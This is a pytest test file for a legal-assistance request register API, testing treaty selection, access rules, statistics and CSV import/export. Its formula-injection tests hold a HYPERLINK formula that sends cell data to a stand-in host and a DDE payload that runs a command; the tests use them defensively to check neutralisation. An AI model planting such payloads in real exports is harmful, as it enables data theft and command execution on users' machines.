"""The legal-assistance register through the API: Art. 7 contents, the instrument, who sees what,
versions, statistics and CSV (issue 8's bad-input list)."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import date

import pytest

from jit.extensions import db
from jit.models import LegalRequest, Party
from jit.services import legal_exchange


def request_body(cast, **changes) -> dict:
    body = {"direction": "outgoing", "kind": "legal_assistance", "requesting_authority_id": cast.ids["ic_by"],
            "requested_party": "KZ", "requested_authority": "МВД Республики Казахстан", "case_number": "20251640012",
            "persons": [{"name": "Иванов И.И.", "citizenship": "BY", "address": "г. Алматы"}],
            "confidential": True, "substance": "Допросить свидетеля", "sent_on": "2025-03-01",
            "due_on": "2025-05-01"}
    return {**body, **changes}


def post(cast, who="by_legal", **changes):
    return cast.api.post("/api/v1/legal-requests", json=request_body(cast, **changes), headers=cast.headers[who])


def test_an_outgoing_request_gets_the_instrument_from_the_treaty_dates(cast):
    created = post(cast)
    assert created.status_code == 201, created.get_json()
    body = created.get_json()
    # Neither Belarus nor Kazakhstan has a Chisinau date on file: Minsk applies.
    assert (body["instrument"], body["status"], body["requesting_party"], body["version"]) == (
        "minsk", "sent", "BY", 1)
    with cast.app.app_context():
        for code in ("BY", "KZ"):
            db.session.get(Party, code).chisinau_in_force_on = date(2004, 4, 27)
        db.session.commit()
    assert post(cast).get_json()["instrument"] == "chisinau"
    # Before Kazakhstan was bound, Minsk still applied.
    assert post(cast, sent_on="2004-04-01", due_on=None).get_json()["instrument"] == "minsk"


def test_missing_art7_contents_are_each_named(cast):
    refused = post(cast, requested_authority="", case_number=None, persons=[{"name": " "}], confidential=None,
                   substance="   ")
    assert refused.status_code == 422
    fields = refused.get_json()["error"]["fields"]
    assert set(fields) == {"requested_authority", "case_number", "persons", "confidential", "substance"}
    assert all("MLA-CONTENT" in why for why in fields.values())
    # An incoming request is registered as received, gaps and all: the report flags it instead.
    incoming = post(cast, direction="incoming", substance="", persons=[])
    assert (incoming.status_code, incoming.get_json()["status"]) == (201, "received")


def test_another_instrument_needs_a_reason(cast):
    refused = post(cast, instrument="chisinau")
    assert refused.status_code == 422
    assert set(refused.get_json()["error"]["fields"]) == {"instrument_reason"}
    assert "MLA-INSTRUMENT" in refused.get_json()["error"]["fields"]["instrument_reason"]
    accepted = post(cast, instrument="bilateral", instrument_reason="Двусторонний договор 1993 г.")
    assert accepted.status_code == 201
    assert (accepted.get_json()["instrument"], accepted.get_json()["instrument_reason"]) == (
        "bilateral", "Двусторонний договор 1993 г.")


def test_each_authority_sees_its_own_register(cast):
    rid = post(cast).get_json()["id"]
    assert cast.api.get(f"/api/v1/legal-requests/{rid}", headers=cast.headers["by_head"]).status_code == 200
    for outsider in ("kz_head", "outsider"):
        assert cast.api.get(f"/api/v1/legal-requests/{rid}", headers=cast.headers[outsider]).status_code == 404
        listed = cast.api.get("/api/v1/legal-requests", headers=cast.headers[outsider]).get_json()
        assert listed == {"items": [], "next_cursor": None}
    # Nobody registers outgoing requests in another authority's name.
    foreign = post(cast, who="kz_head")
    assert (foreign.status_code, list(foreign.get_json()["error"]["fields"])) == (422, ["requesting_authority_id"])


def test_progress_is_recorded_with_the_version_read(cast):
    rid = post(cast).get_json()["id"]
    url = f"/api/v1/legal-requests/{rid}"
    done = cast.api.patch(url, json={"status": "executed", "executed_on": "2025-04-10", "version": 1},
                          headers=cast.headers["by_legal"])
    assert (done.status_code, done.get_json()["status"], done.get_json()["version"]) == (200, "executed", 2)
    stale = cast.api.patch(url, json={"status": "refused", "version": 1}, headers=cast.headers["by_legal"])
    assert (stale.status_code, stale.get_json()["error"]["fields"]) == (409, {"version": "2"})
    early = cast.api.patch(url, json={"executed_on": "2025-01-01", "version": 2},
                           headers={**cast.headers["by_legal"], "Accept-Language": "en"})
    assert early.get_json()["error"]["fields"] == {"executed_on": "Cannot be before the date sent."}


def stats(cast, **query):
    response = cast.api.get("/api/v1/legal-requests/stats", query_string=query, headers=cast.headers["by_legal"])
    assert response.status_code == 200, response.get_json()
    return response.get_json()


def test_statistics_count_share_and_rank_by_requested_party(cast):
    for party, n in (("KZ", 2), ("RU", 3), ("AM", 2), ("UZ", 1)):
        for _ in range(n):
            assert post(cast, requested_party=party).status_code == 201
    post(cast, requested_party="RU", sent_on="2024-12-31")  # outside the period
    result = stats(cast, direction="outgoing", **{"from": "2025-01-01", "to": "2025-10-31"})
    assert result["total"] == 8
    assert [(row["party"], row["count"], row["share"], row["rank"]) for row in result["by_party"]] == [
        ("RU", 3, 0.375, 1), ("AM", 2, 0.25, 2), ("KZ", 2, 0.25, 2), ("UZ", 1, 0.125, 4)]
    assert [month["count"] for month in result["monthly"]] == [0, 0, 8, 0, 0, 0, 0, 0, 0, 0]
    # Every one is past its due date (2025-05-01) without a response.
    assert result["overdue"] == 8


def test_statistics_of_an_empty_period_are_zeros(cast):
    post(cast)
    assert stats(cast, **{"from": "2030-01-01", "to": "2030-02-28"}) == {
        "total": 0, "by_party": [], "overdue": 0, "monthly": [{"month": "2030-01", "count": 0},
                                                               {"month": "2030-02", "count": 0}]}
    backwards = cast.api.get("/api/v1/legal-requests/stats", query_string={"from": "2025-02-01", "to": "2025-01-01"},
                             headers=cast.headers["by_legal"])
    assert backwards.status_code == 422


def _upload(cast, content: bytes):
    return cast.api.post("/api/v1/legal-requests/import", headers={**cast.headers["by_legal"], "Accept-Language": "en"},
                         content_type="multipart/form-data", data={"file": (io.BytesIO(content), "requests.csv")})


def _count(cast) -> int:
    with cast.app.app_context():
        return db.session.query(LegalRequest).count()


def test_an_export_re_imports(cast):
    post(cast)
    post(cast, direction="incoming", requested_party="BY", persons=[], confidential=None)
    exported = cast.api.get("/api/v1/legal-requests/export", headers=cast.headers["by_legal"])
    assert exported.status_code == 200 and exported.mimetype == "text/csv"
    imported = _upload(cast, exported.data)
    assert (imported.status_code, imported.get_json()) == (201, {"imported": 2})
    again = cast.api.get("/api/v1/legal-requests/export", headers=cast.headers["by_legal"]).data.decode("utf-8-sig")
    lines = again.splitlines()
    assert len(lines) == 5 and lines[1:3] == lines[3:5]


def test_a_csv_with_bad_rows_imports_nothing_and_names_each_row(cast):
    post(cast)
    header, good = cast.api.get("/api/v1/legal-requests/export", headers=cast.headers["by_legal"]).data.decode(
        "utf-8-sig").splitlines()
    bad_date = good.replace("2025-03-01", "2025-13-01")
    unknown_party = good.replace(",KZ,", ",XX,")
    content = ("\ufeff" + "\n".join([header, good, bad_date, unknown_party, good]) + "\n").encode()
    before = _count(cast)
    refused = _upload(cast, content)
    assert refused.status_code == 422
    error = refused.get_json()["error"]
    assert error["message"] == "2 of 4 rows are not valid; nothing was imported."
    assert set(error["fields"]) == {"row 3", "row 4"}
    assert "sent_on: Not a date (YYYY-MM-DD): 2025-13-01." in error["fields"]["row 3"]
    assert "requested_party: Not a known party: XX." in error["fields"]["row 4"]
    assert _count(cast) == before


# Issue 13, finding 9: what a spreadsheet would run as a formula.
FORMULAS = {"case_number": '=HYPERLINK("http://x.example/?"&A1,"Дело")', "requested_authority": "+7 (727) 555-00-00",
            "case_title": "-2+3", "substance": "@SUM(1+1) допросить", "representatives": "'уже с апострофом"}


def _export(cast) -> bytes:
    exported = cast.api.get("/api/v1/legal-requests/export", headers=cast.headers["by_legal"])
    assert (exported.status_code, exported.mimetype, exported.mimetype_params.get("charset")) == (
        200, "text/csv", "utf-8")
    return exported.data


def _rows(data: bytes, delimiter: str = ",") -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def test_formula_cells_are_neutralised_in_the_export_and_restored_by_the_import(cast):
    created = post(cast, persons=[{"name": "=cmd|' /C calc'!A0"}], **FORMULAS).get_json()
    data = _export(cast)
    assert data.startswith(codecs.BOM_UTF8)  # Excel reads UTF-8 (Cyrillic) only with the mark
    [row] = _rows(data)
    assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], row
    assert {name: row[name] for name in FORMULAS} == {name: "'" + text for name, text in FORMULAS.items()}

    # Back in, with the mark, without it, and as a spreadsheet saves it (semicolons): the same data.
    semicolons = io.StringIO()
    writer = csv.DictWriter(semicolons, fieldnames=list(row), delimiter=";", lineterminator="\r\n")
    writer.writeheader()
    writer.writerow(row)
    for content in (data, data.removeprefix(codecs.BOM_UTF8), semicolons.getvalue().encode()):
        assert _upload(cast, content).status_code == 201
    rows = _rows(_export(cast))
    assert len(rows) == 4 and all(copy == rows[0] for copy in rows), rows
    listed = cast.api.get("/api/v1/legal-requests", headers=cast.headers["by_legal"]).get_json()["items"]
    for item in listed:
        assert {name: item[name] for name in FORMULAS} == FORMULAS
        assert item["persons"] == created["persons"]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'x", "''x", "x=1", "", "Минск"])
def test_neutralising_a_cell_is_undone_exactly(text):
    out = legal_exchange.neutralised(text)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert legal_exchange.restored(out) == text


def test_the_page_export_is_the_same_file(cast):
    post(cast, **FORMULAS)
    page = cast.browser("by_legal").get("/legal/requests/export.csv")
    assert page.status_code == 200 and page.data == _export(cast)


def test_cells_the_database_cannot_hold_are_bad_rows(cast):
    post(cast)
    header, good = _export(cast).decode("utf-8-sig").splitlines()
    nul = good.replace("20251640012", "2025\x0016")
    authority = f"{cast.ids['ic_by']},"
    huge_id = good.replace(authority, f"{2**40},", 1)
    deep = good.replace('"[{', '"' + "[" * 2000 + "[{", 1)
    refused = _upload(cast, "\n".join([header, good, nul, huge_id, deep]).encode())
    assert refused.status_code == 422, refused.get_json()
    fields = refused.get_json()["error"]["fields"]
    assert set(fields) == {"row 3", "row 4", "row 5"}
    assert "case_number" in fields["row 3"] and "requesting_authority_id" in fields["row 4"]
    assert "persons" in fields["row 5"]
    oversized = _upload(cast, (header + "\n" + good.replace("20251640012", "x" * 200_000)).encode())
    assert (oversized.status_code, list(oversized.get_json()["error"]["fields"])) == (422, ["file"])
